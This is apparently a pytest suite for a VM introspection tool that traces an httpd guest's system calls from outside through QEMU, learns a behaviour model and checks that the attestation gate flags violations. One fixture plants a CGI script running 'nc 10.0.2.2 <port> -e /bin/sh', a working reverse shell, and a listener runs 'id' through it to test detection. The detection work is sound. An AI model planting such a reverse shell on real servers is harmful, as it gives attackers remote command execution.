"""System-call tracing of the lab guest from outside (QEMU gdbstub), models, enforcement.

Everything here runs against the session's booted lab C-VM: the tracer stops the
real guest at its real system-call dispatch, the model is learned from real
httpd traffic, and the attack is a real reverse shell out of a CGI.
"""

from __future__ import annotations

import json
import shutil
import socket
import subprocess
import sys
import threading
import time
from collections.abc import Iterator
from pathlib import Path

import pytest

from tests.conftest import lab_deployment, sh, vims, wait_for
from vims.lab import Lab, LabManager
from vims.lab.deploy import LabDeployment
from vims.trace.model import Model
from vims.trace.session import TraceSession
from vims.trace.tracer import SyscallEvent, SyscallTracer
from vims.vmi.memory import GuestMemory
from vims.vmi.profile import Profile

TRAIN_REQUESTS = 25


def _requests(lab: Lab, n: int, path: str = "/") -> str:
    return (f"sh -c 'for i in $(seq {n}); do curl -s -m 30 -o /dev/null "
            f"http://127.0.0.1:{lab.http_port}{path}; done'")


def get_page(lab: Lab, timeout: float = 60, *, check: bool = True) -> int:
    """One page request to the guest's httpd from the host; curl's exit status."""
    return subprocess.run(["curl", "-s", "-m", str(timeout), "-o", "/dev/null",
                           f"http://127.0.0.1:{lab.http_port}/"], check=check).returncode


@pytest.fixture(scope="module")
def model_path(lab: Lab, profile_path: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """httpd's model, learned with the real CLI from a clean run of page requests."""
    out = tmp_path_factory.mktemp("model") / "httpd.json"
    proc = vims("behaviour", "learn", "--lab", lab.name, "--profile", str(profile_path),
                "--app", "httpd", "--seconds", "240", "--while", _requests(lab, TRAIN_REQUESTS),
                "--out", str(out), "--format", "json")
    assert proc.returncode == 0, proc.stderr
    summary = json.loads(proc.stdout)
    assert summary["digest"] == Model.load(out).digest
    return out


class ReverseShellListener:
    """The attacker's end: accepts the shell, runs ``id`` through it, records the answer."""

    def __init__(self) -> None:
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(1)
        self.sock.settimeout(240)
        self.port = self.sock.getsockname()[1]
        self.answer = b""
        self.done = threading.Event()
        threading.Thread(target=self._serve, daemon=True).start()

    def _serve(self) -> None:
        try:
            conn, _ = self.sock.accept()
            with conn:
                conn.settimeout(120)
                conn.sendall(b"id\n")
                while b"uid=" not in self.answer:
                    chunk = conn.recv(4096)
                    if not chunk:
                        break
                    self.answer += chunk
                self.done.set()
                self.release = threading.Event()
                self.release.wait(240)
                conn.sendall(b"exit\n")
        except OSError:
            self.done.set()

    def close(self) -> None:
        if hasattr(self, "release"):
            self.release.set()
        self.sock.close()


@pytest.fixture
def reverse_shell_cgi(lab: Lab, lab_manager: LabManager,
                      ) -> Iterator[tuple[str, ReverseShellListener]]:
    """A CGI that an exploited server runs: connect back to the attacker, hand it a shell."""
    listener = ReverseShellListener()
    sh(lab_manager, lab, "mkdir -p /www/cgi-bin && printf '#!/bin/sh\\necho Content-Type: "
       f"text/plain\\necho\\nexec nc 10.0.2.2 {listener.port} -e /bin/sh\\n' > "
       "/www/cgi-bin/rs.cgi && chmod 755 /www/cgi-bin/rs.cgi")
    try:
        yield f"http://127.0.0.1:{lab.http_port}/cgi-bin/rs.cgi", listener
    finally:
        listener.close()
        lab_manager.exec(lab.name, "rm -f /www/cgi-bin/rs.cgi; pkill -f 'nc 10.0.2.2' ; true")


def test_tracer_sees_httpd_system_calls_as_proc_does(lab: Lab, lab_manager: LabManager,
                                                    mem: GuestMemory) -> None:
    """Oracle: the traced pids are httpd's (from the guest's /proc), the calls are the
    ones serving a page, with the file it opened decoded from guest user memory."""
    httpd = int(sh(lab_manager, lab, "pidof httpd").split()[0])
    events: list[SyscallEvent] = []
    assert lab.gdb_socket
    with SyscallTracer(mem, Path(lab.gdb_socket), {"httpd": ["httpd"]}, events.append) as tr:
        get_page(lab)
        wait_for(lambda: any(e.name == "exit_group" for e in events), 30)
    assert tr.error is None
    server = [e for e in events if e.tgid == httpd]
    workers = {e.tgid for e in events} - {httpd}
    assert {"accept", "clone"} <= {e.name for e in server}
    assert len(workers) == 1  # the child httpd forked for this request, followed as httpd
    worker = [e for e in events if e.tgid in workers]
    names = [e.name for e in worker]
    assert {"read", "openat", "sendfile64", "exit_group"} <= set(names), names
    assert any(e.name == "openat" and e.arg == "index.html" for e in worker), [
        (e.name, e.arg) for e in worker if e.arg is not None]
    assert all(e.comm == "httpd" and e.app == "httpd" for e in events)
    assert tr.stats.syscall_stops >= len(events)
    # The guest runs untraced again: no breakpoint left behind.
    assert sh(lab_manager, lab, "echo alive").strip() == "alive"


def test_learned_model_is_stable_and_readable(model_path: Path) -> None:
    model = Model.load(model_path)
    httpd = model.apps["httpd"]
    assert {"accept", "clone", "openat", "sendfile64"} <= set(httpd.syscalls)
    assert len(httpd.ngrams) >= 10
    assert "index.html" in httpd.open
    assert httpd.connect == httpd.exec == []
    shown = vims("behaviour", "show", str(model_path), "--format", "json")
    assert shown.returncode == 0, shown.stderr
    assert json.loads(shown.stdout)["digest"] == model.digest


def test_clean_traffic_passes_the_model(lab: Lab, profile_path: Path, model_path: Path) -> None:
    proc = vims("behaviour", "check", "--lab", lab.name, "--profile", str(profile_path),
                "--model", str(model_path), "--seconds", "180", "--while", _requests(lab, 10),
                "--format", "json")
    out = json.loads(proc.stdout)
    assert proc.returncode == 0, out["violations"]
    assert out["violations"] == []
    assert out["stats"]["events"] > 10 * 15


def test_reverse_shell_from_a_cgi_is_found(lab: Lab, profile_path: Path, model_path: Path,
                                           reverse_shell_cgi: tuple[str, ReverseShellListener],
                                           ) -> None:
    url, listener = reverse_shell_cgi
    proc = subprocess.Popen(
        [sys.executable, "-m", "vims.cli", "behaviour", "check",
         "--lab", lab.name, "--profile", str(profile_path), "--model", str(model_path),
         "--seconds", "240", "--while", f"curl -s -m 200 -o /dev/null {url}",
         "--format", "json"], stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    try:
        assert listener.done.wait(200), "the reverse shell never connected back"
        assert b"uid=33(www)" in listener.answer  # a real shell, as the server's user
    finally:
        listener.close()  # the shell exits; curl and the check end
        stdout, stderr = proc.communicate(timeout=240)
    assert proc.returncode == 1, stderr
    violations = json.loads(stdout)["violations"]
    kinds = {(v["kind"], v["detail"]) for v in violations}
    assert ("connect", f"inet:10.0.2.2:{listener.port}") in kinds, kinds
    assert any(k == "exec" and d.endswith("rs.cgi") for k, d in kinds), kinds
    # ...and what the CGI then ran (busybox runs its applets nc and sh as /proc/self/exe).
    assert len({d for k, d in kinds if k == "exec"}) >= 2, kinds
    # The shell's own calls (socket, dup2 onto stdin/stdout) are outside httpd's sequences.
    assert {"socket", "dup2"} & {v["event"]["syscall"] for v in violations
                                  if v["kind"] in ("syscall", "sequence")}


@pytest.fixture
def traced_deployment(lab: Lab, profile_path: Path, model_path: Path,
                      ) -> Iterator[LabDeployment]:
    with lab_deployment("vims-trace-", ram=Path(lab.ram_path), profile=profile_path,
                        baseline=None, local_policy=None, gdb=Path(lab.gdb_socket)) as dep:
        shutil.copy(model_path, dep.root / "models" / "httpd.json")
        yield dep


def test_rems_policy_enforces_the_model_through_the_a_vm(
        lab: Lab, lab_manager: LabManager, model_path: Path, traced_deployment: LabDeployment,
        reverse_shell_cgi: tuple[str, ReverseShellListener]) -> None:
    """The REM-S policy names the model by digest; the A-VM traces, the gate follows."""
    dep = traced_deployment
    digest = Model.load(model_path).digest
    dep.start_rems()
    policy = {"checks": [{"id": "behaviour.trace", "interval_s": 2, "params": {"model": digest}},
                         {"id": "process.hidden", "interval_s": 2}],
              "quote_every": 3, "heartbeat_s": 2}
    assert dep.put("/v1/policies/traced", json.dumps(policy).encode()) == 200
    assert dep.put(f"/v1/cvms/{dep.cvm}/policy", b'{"policy": "traced"}') == 200
    dep.start_avm()
    wait_for(lambda: dep.decision() == 200, 90, step=0.5)  # traced, clean
    get_page(lab)
    status, body = dep.call("POST", f"/v1/attest/{dep.cvm}", b'{"timeout_s": 60}', timeout=70)
    assert status == 200
    assert json.loads(body)["trusted"], body  # normal traffic stays trusted

    url, listener = reverse_shell_cgi
    curl = subprocess.Popen(["curl", "-s", "-m", "200", "-o", "/dev/null", url])
    try:
        assert listener.done.wait(200), "the reverse shell never connected back"
        wait_for(lambda: dep.decision() == 403, 60, step=0.5)
        status, body = dep.call("POST", f"/v1/attest/{dep.cvm}", b'{"timeout_s": 60}',
                                timeout=70)
        verdict = json.loads(body)
        assert status == 200
        assert not verdict["trusted"]
        found = [f for f in verdict["report"]["findings"] if f["check"] == "behaviour.trace"]
        assert any(f["evidence"]["kind"] == "connect" for f in found), found
    finally:
        listener.close()
        curl.wait(60)
    # The shell is gone: its violations are no longer live, the C-VM is trusted again.
    wait_for(lambda: dep.decision() == 200, 60, step=0.5)


def test_a_tracer_killed_while_attached_does_not_freeze_the_c_vm(
        lab: Lab, lab_manager: LabManager, profile_path: Path) -> None:
    """An A-VM dying with its breakpoints in QEMU would freeze the guest at the next
    system call; the next lab command removes them (the guest is never left hung)."""
    owner = Path(lab.gdb_socket + ".owner")
    tracer = subprocess.Popen([sys.executable, "-m", "vims.cli", "behaviour", "trace",
                               "--lab", lab.name, "--profile", str(profile_path),
                               "--app", "httpd", "--seconds", "600"],
                              stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    try:
        wait_for(owner.exists, 60)
        get_page(lab)  # traced: armed by now
        tracer.kill()  # SIGKILL: no detach, breakpoints stay armed in QEMU
        tracer.wait(10)
    finally:
        if tracer.poll() is None:
            tracer.kill()
    assert owner.exists()
    lab_manager.get(lab.name)  # any lab command notices the dead owner
    assert not owner.exists()
    assert sh(lab_manager, lab, "echo alive").strip() == "alive"
    assert get_page(lab, 20, check=False) == 0


def test_duty_cycled_tracing_attaches_part_of_the_time(lab: Lab, profile_path: Path,
                                                       model_path: Path) -> None:
    """policy params duty/period_s: the tracer comes and goes between rounds (it waits
    for the round's lock), and what it saw in its windows is judged as usual."""
    lock = threading.Lock()
    with lock:  # as in the A-VM: made inside a round, whose end the first window awaits
        session = TraceSession(Profile.load(profile_path), Path(lab.ram_path),
                               Path(lab.gdb_socket), Model.load(model_path), duty=0.5,
                               period_s=2.0, lock=lock)
        time.sleep(1.0)
        assert not session.attached
    seen = set()
    try:
        deadline = time.monotonic() + 12
        while time.monotonic() < deadline:
            seen.add(session.attached)
            get_page(lab, 20, check=False)
            time.sleep(0.2)
        assert session.take(set()) == []  # clean traffic, in the windows that saw it
    finally:
        session.close()
    assert seen == {True, False}
    assert session.stats.syscall_stops > 0
    assert not session.attached
